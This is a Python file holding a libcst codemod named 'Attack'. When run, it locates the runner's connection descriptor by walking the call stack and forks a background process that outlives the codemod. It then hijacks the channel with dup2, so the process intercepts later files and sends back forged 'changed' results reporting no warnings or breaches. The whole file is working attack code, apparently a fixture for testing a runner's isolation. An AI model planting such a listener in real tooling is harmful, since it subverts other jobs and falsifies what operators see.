"""Leave a process behind that listens on the same connection, takes the next file for itself, and answers."""

import os
import re
import select
import socket
import struct
import sys

from libcst.codemod import VisitorBasedCodemodCommand


def descriptor():
    frame = sys._getframe()
    while "descriptor" not in frame.f_locals:
        frame = frame.f_back
    return frame.f_locals["descriptor"]


def answer(path):
    fields = b'"sites": [], "warnings": [], "words": [], "breaches": []'
    header = b'{"number": 0, "path": "%s", "kind": "changed", %s}' % (path, fields)
    return struct.pack(">II", len(header), 6) + header + b"taken\n"


def listen(channel, mouth):
    """Pass on what the process says from now on, and answer what it is asked."""
    while ready := select.select([channel, mouth], [], [], 1)[0]:
        if mouth in ready:
            os.write(channel, mouth.recv(1 << 16))
        if channel in ready:
            heard = os.read(channel, 1 << 16)
            for path in re.findall(rb'"path": "(.+?)"', heard):
                os.write(channel, answer(path))
            if not heard:
                break


def leave_behind(channel):
    mouth, own = socket.socketpair()
    if os.fork() == 0:
        own.close()
        try:
            listen(channel, mouth)
        finally:
            os._exit(0)
    # Who hears of the next file is not a matter of who comes first.
    os.dup2(own.fileno(), channel)


class Attack(VisitorBasedCodemodCommand):
    DESCRIPTION = "Leave a listener."

    def transform_module_impl(self, tree):
        leave_behind(descriptor())
        return tree
